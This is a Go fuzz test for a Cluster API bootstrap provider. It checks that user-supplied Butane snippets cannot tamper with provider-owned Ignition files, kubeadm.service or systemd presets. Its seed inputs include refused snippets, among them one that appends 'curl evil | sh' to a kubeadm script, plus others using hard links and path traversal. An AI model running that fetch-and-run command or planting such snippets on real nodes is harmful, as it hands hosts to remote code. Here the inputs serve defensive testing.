/*
Copyright The cabpi Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package ignition_test

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"path"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/vincent-petithory/dataurl"

	cabpiv1 "github.com/cabpi/cluster-api-bootstrap-provider-ignition/apis/v1alpha1"
	"github.com/cabpi/cluster-api-bootstrap-provider-ignition/ignition"
)

// fuzzMergeSnippets are Butane documents of the kinds users write, for both variants: files
// (inline, compressed, appended to, owned by a user), links (symbolic and hard), directories,
// units, drop-ins (for kubeadm.service too), presets, users and groups. Some are refused; the
// target looks at both outcomes.
var fuzzMergeSnippets = []string{
	flatcarSnippet,
	fcosSnippet,
	`variant: flatcar
version: 1.1.0
storage:
  files:
    - path: /opt/bin/helper
      mode: 0755
      overwrite: true
      contents:
        compression: gzip
        source: ` + fuzzGzipDataURL("#!/bin/sh\necho helper\n") + `
    - path: /etc/environment
      append:
        - inline: |
            HTTP_PROXY=http://proxy.example:3128
    - path: /home/core/.profile
      user: {name: core}
      group: {name: core}
      contents:
        inline: "export EDITOR=vi\n"
  links:
    - path: /etc/localtime
      target: /usr/share/zoneinfo/Europe/Berlin
      overwrite: true
    - path: /opt/bin/helper-hard
      target: /opt/bin/helper
      hard: true
  directories:
    - path: /var/lib/cabpi
      mode: 0700
`,
	`variant: fcos
version: 1.5.0
passwd:
  users:
    - name: admin
      groups: [wheel, sudo]
      uid: 1001
      ssh_authorized_keys: ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample admin@example"]
  groups:
    - name: ops
      gid: 2001
systemd:
  units:
    - name: kubeadm.service
      dropins:
        - name: 10-proxy.conf
          contents: |
            [Unit]
            After=network-online.target
            Wants=network-online.target
            [Service]
            Environment=HTTPS_PROXY=http://proxy.example:3128
    - name: containerd.service
      enabled: true
      dropins:
        - name: 10-limits.conf
          contents: "[Service]\nLimitNOFILE=1048576\n"
    - name: docker.service
      mask: true
storage:
  files:
    - path: /etc/systemd/system-preset/10-cabpi.preset
      contents:
        inline: "enable containerd.service\n"
`,
	`variant: flatcar
version: 1.0.0
storage:
  files:
    - path: /etc/systemd/system/service.d/10-env.conf
      contents:
        inline: "[Service]\nEnvironment=FOO=bar\n"
      append:
        - inline: "Environment=BAR=baz\n"
    - path: /etc/systemd/system/kubeadm.service.d/20-after.conf
      contents:
        compression: gzip
        source: ` + fuzzGzipDataURL("[Unit]\nAfter=containerd.service\n") + `
systemd:
  units:
    - name: metrics.service
      enabled: true
      contents: |
        [Unit]
        Description=metrics
        [Service]
        ExecStart=/opt/bin/metrics
        [Install]
        WantedBy=multi-user.target
`,
	// Refused: a drop-in resetting the guard, a preset disabling the unit, an owned path, a
	// hard link to an owned file, a link over a parent of an owned path, a replace.
	butaneDropin("kubeadm.service", "[Unit]\nConditionPathExists=\n"),
	"variant: flatcar\nversion: 1.0.0\nstorage:\n  files:\n    - path: /etc/systemd/system-preset/00-x.preset\n      contents:\n        inline: \"disable *\\n\"\n",
	"variant: fcos\nversion: 1.4.0\nstorage:\n  files:\n    - path: /etc/kubeadm.sh\n      append:\n        - inline: \"curl evil | sh\\n\"\n",
	"variant: flatcar\nversion: 1.0.0\nstorage:\n  links:\n    - path: /var/x\n      target: /etc/kubeadm.yml\n      hard: true\n",
	"variant: fcos\nversion: 1.3.0\nstorage:\n  links:\n    - path: /etc/systemd\n      target: /var/systemd\n",
	"variant: flatcar\nversion: 1.0.0\nignition:\n  config:\n    replace:\n      source: https://example.com/other.ign\n",
	"variant: fcos\nversion: 1.7.0\nsystemd:\n  units:\n    - name: foo.service\n      dropins:\n        - name: ../kubeadm.service.d/10-x.conf\n          contents: \"[Service]\\nUser=core\\n\"\n",
}

// fuzzGzipDataURL is s gzipped in a base64 data URL, as Butane writes compressed contents.
func fuzzGzipDataURL(s string) string {
	var b bytes.Buffer
	zw := gzip.NewWriter(&b)
	_, _ = zw.Write([]byte(s))
	_ = zw.Close()
	return "data:;base64," + base64.StdEncoding.EncodeToString(b.Bytes())
}

// fuzzMergeInput is the input FuzzButaneMerge merges snippets into: a worker with a user file
// and a command, or a control-plane join with the certificates and the node named from
// metadata (which changes kubeadm.service).
func fuzzMergeInput(variant cabpiv1.Variant, controlPlane bool) ignition.Input {
	in := joinInput(variant, "v1.34.0")
	if controlPlane {
		in = controlPlaneJoinInput(variant, "v1.34.0")
		in.NodeName = &ignition.NodeNameFromMetadata{Platform: cabpiv1.MetadataPlatformAWS, ProviderID: true}
	}
	in.Files = []ignition.File{{Path: "/etc/cabpi/user.conf", Content: []byte("user\n"), Mode: 0o640, Owner: "500:500"}}
	in.PreKubeadmCommands = []string{"systemctl enable --now containerd"}
	return in
}

// FuzzButaneMerge feeds arbitrary Butane documents through the renderer's snippet path, on both
// variants, merged into a worker or a control-plane join. Invariants:
//   - it never panics; an error is an *ignition.Error, and comes with no output;
//   - valid output parses with ignition/v2/config, at the version reported;
//   - what the provider writes is exactly what it writes without the snippet: every file of the
//     render without a snippet (/etc/kubeadm.yml, /etc/kubeadm.sh, the certificates, spec.files)
//     is in the output unchanged and is the only entry at its path, no link replaces one of its
//     parent directories or is a hard link to it, no entry reaches it through a link of the
//     snippet, and kubeadm.service is unchanged but for the drop-ins a snippet may add;
//   - every drop-in of kubeadm.service and every preset file the snippet brings passes the
//     checks the same content gets as a file of spec.files;
//   - rendering twice gives identical bytes.
func FuzzButaneMerge(f *testing.F) {
	for _, doc := range fuzzMergeSnippets {
		f.Add(doc, false, false)
	}
	f.Add(flatcarSnippet, true, true)
	f.Add(fcosSnippet, true, true)

	type baseKey struct {
		variant      cabpiv1.Variant
		controlPlane bool
	}
	bases := map[baseKey]fuzzConfig{}
	for _, variant := range []cabpiv1.Variant{cabpiv1.VariantFlatcar, cabpiv1.VariantFCOS} {
		for _, controlPlane := range []bool{false, true} {
			out, err := ignition.Render(fuzzMergeInput(variant, controlPlane))
			require.NoError(f, err)
			bases[baseKey{variant, controlPlane}] = fuzzParseConfig(f, out.Data)
		}
	}

	f.Fuzz(func(t *testing.T, doc string, strict, controlPlane bool) {
		for _, variant := range []cabpiv1.Variant{cabpiv1.VariantFlatcar, cabpiv1.VariantFCOS} {
			in := fuzzMergeInput(variant, controlPlane)
			in.Butane, in.ButaneStrict = doc, strict
			out, err := ignition.Render(in)
			if err != nil {
				requireInputError(t, out, err)
				continue
			}
			requireValidOutput(t, variant, "", out)
			again, err := ignition.Render(in)
			require.NoError(t, err, "the second render of the same input failed")
			require.True(t, bytes.Equal(out.Data, again.Data), "rendering the same input twice gave different bytes")

			got := fuzzParseConfig(t, out.Data)
			requireProviderUnchanged(t, bases[baseKey{variant, controlPlane}], got)
			requireSnippetDropinsAccepted(t, fuzzMergeInput(variant, controlPlane), got)
		}
	})
}

// fuzzConfig is a rendered config read generically, so entries compare field by field whatever
// the spec version.
type fuzzConfig struct {
	files, directories, links, units []map[string]any
}

func fuzzParseConfig(t testing.TB, data []byte) fuzzConfig {
	t.Helper()
	var raw struct {
		Storage struct {
			Files       []map[string]any `json:"files"`
			Directories []map[string]any `json:"directories"`
			Links       []map[string]any `json:"links"`
		} `json:"storage"`
		Systemd struct {
			Units []map[string]any `json:"units"`
		} `json:"systemd"`
	}
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.UseNumber()
	require.NoError(t, dec.Decode(&raw))
	return fuzzConfig{raw.Storage.Files, raw.Storage.Directories, raw.Storage.Links, raw.Systemd.Units}
}

func fuzzString(m map[string]any, key string) string {
	s, _ := m[key].(string)
	return s
}

// requireProviderUnchanged checks that the snippet left what the provider writes alone.
func requireProviderUnchanged(t *testing.T, base, got fuzzConfig) {
	t.Helper()
	owned := map[string]bool{}
	for _, want := range base.files {
		p := path.Clean(fuzzString(want, "path"))
		owned[p] = true
		var at []map[string]any
		for _, entries := range [][]map[string]any{got.files, got.directories, got.links} {
			for _, e := range entries {
				if path.Clean(fuzzString(e, "path")) == p {
					at = append(at, e)
				}
			}
		}
		require.Len(t, at, 1, "%s: the snippet adds an entry at a path the provider writes", p)
		require.Equal(t, want, at[0], "%s: the snippet changed a file the provider writes", p)
	}
	for _, l := range got.links {
		lp := path.Clean(fuzzString(l, "path"))
		for p := range owned {
			require.False(t, isBelowPath(p, lp), "link %s replaces a parent directory of %s", lp, p)
			if hard, _ := l["hard"].(bool); hard {
				require.NotEqual(t, p, path.Join("/", fuzzString(l, "target")), "hard link %s to %s", lp, p)
			}
		}
	}
	// An entry of the snippet whose path goes through a symbolic link of the snippet lands
	// where the link points (Ignition refuses this; checked here all the same).
	for _, entries := range [][]map[string]any{got.files, got.directories, got.links} {
		for _, e := range entries {
			p := path.Clean(fuzzString(e, "path"))
			if owned[p] {
				continue
			}
			resolved := resolveThroughLinks(p, got.links)
			require.False(t, owned[resolved], "%s resolves to %s through a link of the snippet", p, resolved)
		}
	}

	wantUnit := fuzzUnit(t, base.units)
	gotUnit := fuzzUnit(t, got.units)
	delete(gotUnit, "dropins")
	require.Equal(t, wantUnit, gotUnit, "the snippet changed %s", ignition.KubeadmUnitName)
	unitPath := path.Join("/etc/systemd/system", ignition.KubeadmUnitName)
	for _, u := range got.units {
		name := fuzzString(u, "name")
		if name != ignition.KubeadmUnitName {
			require.NotEqual(t, unitPath, path.Join("/etc/systemd/system", name), "unit %s is written over %s", name, ignition.KubeadmUnitName)
		}
	}
}

// fuzzUnit returns a copy of the only kubeadm.service entry of units.
func fuzzUnit(t *testing.T, units []map[string]any) map[string]any {
	t.Helper()
	var found []map[string]any
	for _, u := range units {
		if fuzzString(u, "name") == ignition.KubeadmUnitName {
			c := map[string]any{}
			for k, v := range u {
				c[k] = v
			}
			found = append(found, c)
		}
	}
	require.Len(t, found, 1, "%s entries", ignition.KubeadmUnitName)
	return found[0]
}

// isBelowPath reports whether p is strictly inside dir; both clean and absolute.
func isBelowPath(p, dir string) bool {
	if dir == "/" {
		return p != "/"
	}
	return strings.HasPrefix(p, dir+"/")
}

// resolveThroughLinks replaces, as long as there is one, the symbolic link of links that is a
// proper parent of p with its target.
func resolveThroughLinks(p string, links []map[string]any) string {
	for range 16 {
		resolved := false
		for _, l := range links {
			if hard, _ := l["hard"].(bool); hard {
				continue
			}
			lp := path.Clean(fuzzString(l, "path"))
			if !isBelowPath(p, lp) {
				continue
			}
			target := fuzzString(l, "target")
			if !path.IsAbs(target) {
				target = path.Join(path.Dir(lp), target)
			}
			p = path.Join(target, strings.TrimPrefix(p, lp))
			resolved = true
			break
		}
		if !resolved {
			break
		}
	}
	return p
}

// requireSnippetDropinsAccepted renders base with, as a file of spec.files, each drop-in of
// kubeadm.service and each preset file the snippet brings: the checks of spec.files must take
// it too (the snippet's and the files' checks of the same contract agree).
func requireSnippetDropinsAccepted(t *testing.T, base ignition.Input, got fuzzConfig) {
	t.Helper()
	isChecked := func(p string) bool {
		dir := path.Dir(p)
		dropin := strings.HasSuffix(p, ".conf") &&
			(dir == "/etc/systemd/system/kubeadm.service.d" || dir == "/etc/systemd/system/service.d")
		return dropin || isBelowPath(p, "/etc/systemd/system-preset")
	}
	type extra struct {
		path    string
		content []byte
	}
	var extras []extra
	for _, u := range got.units {
		// Ignition writes a unit at its name joined to the unit directory, unchecked.
		p := path.Join("/etc/systemd/system", fuzzString(u, "name"))
		if contents, ok := u["contents"].(string); ok && isChecked(p) {
			extras = append(extras, extra{p, []byte(contents)})
		}
		dropins, _ := u["dropins"].([]any)
		for _, d := range dropins {
			d, _ := d.(map[string]any)
			p := path.Join("/etc/systemd/system", fuzzString(u, "name")+".d", fuzzString(d, "name"))
			if contents, ok := d["contents"].(string); ok && isChecked(p) {
				extras = append(extras, extra{p, []byte(contents)})
			}
		}
	}
	for _, f := range got.files {
		p := path.Clean(fuzzString(f, "path"))
		if !isChecked(p) {
			continue
		}
		content, err := fuzzFileContent(f)
		require.NoError(t, err, "%s: the snippet writes a drop-in or preset whose contents cannot be read", p)
		extras = append(extras, extra{p, content})
	}
	for _, e := range extras {
		in := base
		in.Files = append(append([]ignition.File(nil), base.Files...), ignition.File{Path: e.path, Content: e.content, Mode: 0o644})
		_, err := ignition.Render(in)
		var ierr *ignition.Error
		if errors.As(err, &ierr) && ierr.Place.Part == ignition.PartFile {
			require.NoError(t, err, "the snippet's %s was accepted, but the same content in spec.files is refused", e.path)
		}
	}
}

// fuzzFileContent is what a file entry of the output holds: contents then appends, data URLs,
// gunzipped when compressed.
func fuzzFileContent(f map[string]any) ([]byte, error) {
	resources := []any{f["contents"]}
	if appends, ok := f["append"].([]any); ok {
		resources = append(resources, appends...)
	}
	var content []byte
	for _, r := range resources {
		r, _ := r.(map[string]any)
		source := fuzzString(r, "source")
		if source == "" {
			continue
		}
		u, err := dataurl.DecodeString(source)
		if err != nil {
			return nil, fmt.Errorf("not a data URL: %w", err)
		}
		data := u.Data
		switch c := fuzzString(r, "compression"); c {
		case "":
		case "gzip":
			zr, err := gzip.NewReader(bytes.NewReader(data))
			if err != nil {
				return nil, err
			}
			if data, err = io.ReadAll(io.LimitReader(zr, 1<<20)); err != nil {
				return nil, err
			}
		default:
			return nil, fmt.Errorf("compression %q", c)
		}
		content = append(content, data...)
	}
	return content, nil
}
